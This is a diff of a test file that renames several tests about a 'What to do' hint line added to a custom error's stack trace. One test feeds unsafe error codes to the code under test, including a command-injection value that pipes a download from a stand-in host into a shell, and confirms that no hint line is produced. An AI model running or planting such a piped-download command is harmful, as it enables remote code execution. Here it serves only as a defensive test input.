@@ -30,7 +30,7 @@ test.each(Object.entries(makers))('the stack of %s has no "What to do" line in p
   expect(make().stack).not.toContain('What to do');
 });
 
-test('the "What to do" line leaves the stack frames intact and error.stack non-enumerable', () => {
+test('the "What to do" line in error.stack leaves the stack frames intact', () => {
   const error = new LatchkeyError('NETWORK', 'No answer.');
   const lines = (error.stack ?? '').split('\n');
   expect(lines.slice(2)).not.toEqual([]);
@@ -50,7 +50,7 @@ test('a LatchkeyError in an engine other than V8 keeps error.stack unchanged', (
 });
 
 test.each(['X; curl evil.example | sh', 'X\nY', '$(id)', '--help', ''])(
-  'an error with the unsafe code %j gets no "What to do" line',
+  'an error whose code is unsafe in a shell command (%j) gets no "What to do" line',
   (code) => {
     expect(whatToDo(code)).toBe('');
     expect(buildError(code, 'Failed', {}).stack).not.toContain('What to do');
